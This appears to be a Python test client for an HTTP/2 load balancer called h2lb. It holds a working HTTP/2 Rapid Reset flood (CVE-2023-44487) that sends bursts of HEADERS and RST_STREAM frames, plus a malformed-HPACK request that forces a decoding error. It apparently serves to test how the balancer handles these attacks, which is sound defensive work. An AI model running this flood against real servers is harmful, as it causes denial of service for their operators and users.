#!/usr/bin/python3
"""An HTTP/2 client that attacks the backends behind h2lb, one way per run.

  --mode rapid-reset   HEADERS then RST_STREAM(CANCEL), stream after stream,
                       for --seconds (CVE-2023-44487)
  --mode bad-hpack     one request whose header block a backend cannot
                       decode (an indexed field with index 0, RFC 7541 6.1):
                       the backend answers GOAWAY(COMPRESSION_ERROR)

It starts correctly (preface, SETTINGS, the ACK of h2lb's SETTINGS), then
attacks until h2lb's GOAWAY arrives, the connection closes or --seconds
pass. Prints one JSON line: {"mode", "streams" (sent), "goaway" (error
code or null), "closed", "seconds"}.
"""
import argparse
import json
import socket
import struct
import threading
import time

from h2raw import (ACK, CANCEL, END_HEADERS, END_STREAM, GOAWAY, HEADERS,
                   PREFACE, RST_STREAM, SETTINGS, frame, lit, read_frame)

# :method GET, :path /, :scheme http (static table), :authority x
REQUEST = bytes([0x82, 0x84, 0x86]) + lit(b":authority", b"x")
BAD_BLOCK = bytes([0x80])  # indexed field, index 0: a decoding error


def reader(s, res, done):
    """h2lb's frames: ACK its SETTINGS, note its GOAWAY, see the close."""
    try:
        while True:
            f = read_frame(s)
            if f is None:
                res["closed"] = True
                break
            ftype, flags, stream, payload = f
            if ftype == SETTINGS and not flags & ACK:
                s.sendall(frame(SETTINGS, ACK, 0))
            elif ftype == GOAWAY and stream == 0:
                res["goaway"] = struct.unpack(">I", payload[4:8])[0]
    except OSError:
        res["closed"] = True
    done.set()


def main():
    ap = argparse.ArgumentParser()
    ap.add_argument("--target", required=True)
    ap.add_argument("--mode", choices=("rapid-reset", "bad-hpack"),
                    required=True)
    ap.add_argument("--seconds", type=float, default=5.0)
    args = ap.parse_args()
    host, port = args.target.rsplit(":", 1)
    res = {"mode": args.mode, "streams": 0, "goaway": None, "closed": False}
    t0 = time.monotonic()
    s = socket.create_connection((host, int(port)), timeout=args.seconds + 5)
    done = threading.Event()
    s.sendall(PREFACE + frame(SETTINGS, 0, 0))
    threading.Thread(target=reader, args=(s, res, done), daemon=True).start()
    time.sleep(0.2)  # h2lb's SETTINGS, acknowledged: streams spread out
    sid = 1
    try:
        if args.mode == "bad-hpack":
            s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, sid,
                            REQUEST))
            s.sendall(frame(HEADERS, END_HEADERS | END_STREAM, sid + 2,
                            BAD_BLOCK))
            res["streams"] = 2
        else:
            while not done.is_set() and time.monotonic() - t0 < args.seconds:
                burst = b""
                for _ in range(100):
                    burst += frame(HEADERS, END_HEADERS | END_STREAM, sid,
                                   REQUEST)
                    burst += frame(RST_STREAM, 0, sid,
                                   CANCEL.to_bytes(4, "big"))
                    sid += 2
                s.sendall(burst)
                res["streams"] = (sid - 1) // 2
    except OSError:
        res["closed"] = True
    done.wait(max(0.1, args.seconds + 3 - (time.monotonic() - t0)))
    res["seconds"] = round(time.monotonic() - t0, 3)
    s.close()
    print(json.dumps(res), flush=True)


if __name__ == "__main__":
    main()
